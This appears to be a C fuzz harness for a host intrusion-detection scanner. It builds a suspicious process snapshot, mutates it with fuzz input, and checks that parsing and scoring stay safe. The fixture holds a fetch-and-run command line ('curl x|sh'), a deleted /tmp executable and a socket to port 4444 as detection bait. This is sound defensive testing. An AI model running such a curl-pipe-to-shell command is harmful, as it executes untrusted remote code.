/* SPDX-License-Identifier: MIT */
/*
 * What the screen reads out of a block whose writer was taken over: the input
 * lists changes (two bytes of offset, one of value) to a good block. A block
 * that still verifies must be safe to walk.
 */
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "base/fatal.h"
#include "heuristics/heuristic.h"
#include "model/relations.h"
#include "model/snapshot.h"
#include "scoring/scoring.h"
#include "tests/fuzz/target.h"
#include "tests/support/block.h"

static void add_closer_look(struct snapshot_builder *builder)
{
    const struct text_ref word = snapshot_builder_text(builder, span_of_string("word"));
    const struct closer closer = {.pid = 1, .root = word, .label = word};
    const struct thread thread = {.tid = 1, .comm = word, .waits_in = word};
    const struct limit limit = {word, word, word, word};

    snapshot_builder_set_closer(builder, &closer);
    snapshot_builder_add_variable(builder, span_of_string("HOME"), span_of_string("/"));
    snapshot_builder_add_thread(builder, &thread);
    snapshot_builder_add_limit(builder, &limit);
    for (int fd = 0; fd < 3; fd++)
        snapshot_builder_add_opening(builder, &(struct opening){.fd = fd});
}

static void *make_block(size_t *ret_size)
{
    struct snapshot_builder *builder = snapshot_builder_new();

    snapshot_builder_header(builder)->ticks_per_second = 100;
    snapshot_builder_header(builder)->cpus = 1;
    snapshot_builder_header(builder)->page_size = 4096;
    for (int32_t pid = 1; pid < 4; pid++) {
        struct map map = {
            .start = 0x1000, .end = 0x2000, .permissions = MAP_WRITE | MAP_EXECUTE};
        struct descriptor descriptor = {.kind = DESCRIPTOR_SOCKET, .inode = 11};
        struct process process = {
            .pid = pid,
            .ppid = pid - 1,
            .comm = snapshot_builder_text(builder, span_of_string("sshd")),
            .cmdline = snapshot_builder_text(builder, span_of("sh\0-c\0curl x|sh", 16)),
            .exe = snapshot_builder_text(builder, span_of_string("/tmp/.x/sh (deleted)")),
            .cwd = snapshot_builder_text(builder, span_of_string("/tmp (deleted)")),
            .tracer_pid = pid - 1,
            .maps = {snapshot_builder_add_map(builder,        &map),        1},
            .descriptors = {snapshot_builder_add_descriptor(builder, &descriptor), 1},
        };
        memset(process.facts, FACT_KNOWN, sizeof process.facts);
        snapshot_builder_add_process(builder, &process);
    }
    snapshot_builder_add_socket(
        builder,
        &(struct socket){.inode = 11, .family = AF_INET, .remote_port = 4444, .local_port = 5});
    snapshot_builder_add_note(builder, 1, "something to know");
    add_closer_look(builder);
    return block_of(builder, ret_size);
}

static size_t text_length(const struct snapshot *snapshot, struct text_ref text)
{
    return span_length(snapshot_span(snapshot, text));
}

/* Touch what a reader would touch. */
static size_t walk(const struct snapshot *snapshot)
{
    size_t sum = 0;

    for (size_t i = 0; i < snapshot->process_count; i++) {
        const struct process *process = &snapshot->processes[i];
        sum += text_length(snapshot, process->comm) + text_length(snapshot, process->cmdline);
        for (uint32_t j = 0; j < process->maps.count; j++)
            sum += snapshot->maps[process->maps.first + j].start;
        for (uint32_t j = 0; j < process->descriptors.count; j++)
            sum += snapshot->descriptors[process->descriptors.first + j].inode;
    }
    for (size_t i = 0; i < snapshot->note_count; i++)
        sum += text_length(snapshot, snapshot->notes[i].text);
    if (snapshot->closer)
        sum += text_length(snapshot, snapshot->closer->root) +
               strlen(snapshot->closer->elf.interpreter);
    for (size_t i = 0; i < snapshot->variable_count; i++)
        sum += text_length(snapshot, snapshot->variables[i].value);
    for (size_t i = 0; i < snapshot->thread_count; i++)
        sum += text_length(snapshot, snapshot->threads[i].comm);
    for (size_t i = 0; i < snapshot->limit_count; i++)
        sum += text_length(snapshot, snapshot->limits[i].hard);
    for (size_t i = 0; i < snapshot->opening_count; i++)
        sum += snapshot_opening(snapshot, snapshot->openings[i].fd)->flags;
    return sum;
}

/* And judge it, by a whitelist that has one entry of each kind. */
static size_t judge(const struct snapshot *snapshot, const struct relations *relations)
{
    static const char no_hash[] = "00000000000000000000000000000000"
                                  "00000000000000000000000000000000";
    static const char *const entries[WHITELIST_KIND_COUNT] = {
        [WHITELIST_NAME] = "a-name-longer-than-15",
        [WHITELIST_USER] = "1000",
        [WHITELIST_PATTERN] = "/*/x*",
        [WHITELIST_HASH] = no_hash,
        [WHITELIST_PATH] = "/bin/sh",
        [WHITELIST_RULE] = "tmp_exe pattern=s* parent=/*",
    };
    struct assessment assessment = {0};
    struct scoring_options options;
    struct scores scores = {0};
    struct thresholds thresholds;

    thresholds_init(&thresholds);
    scoring_options_init(&options);
    for (unsigned kind = 0; kind < WHITELIST_KIND_COUNT; kind++)
        if (whitelist_add(&options.whitelist, kind, entries[kind]))
            fatal("an entry is refused");
    heuristics_assess(snapshot, relations, &thresholds, &assessment);
    score_snapshot(snapshot, &assessment, NULL, &options, &scores);
    thresholds.cpu_high = 0;
    heuristics_reassess(&(struct check_context){snapshot, relations, &thresholds}, &assessment);
    score_snapshot(snapshot, &assessment, NULL, &options, &scores);
    size_t flagged = scores.flagged_count;
    scores_release(&scores);
    scoring_options_release(&options);
    assessment_release(&assessment);
    return flagged;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    size_t block_size;
    uint8_t *block = make_block(&block_size);
    struct snapshot snapshot;
    const char *reason;
    static volatile size_t sink;

    for (size_t i = 0; i + 3 <= size; i += 3)
        block[(data[i] | (size_t)data[i + 1] << 8) % block_size] = data[i + 2];
    if (snapshot_open(block, block_size, &snapshot, &reason)) {
        struct relations *relations = relations_new(&snapshot);
        sink = walk(&snapshot) + judge(&snapshot, relations);
        relations_free(relations);
    }
    free(block);
    (void)sink;
    return 0;
}
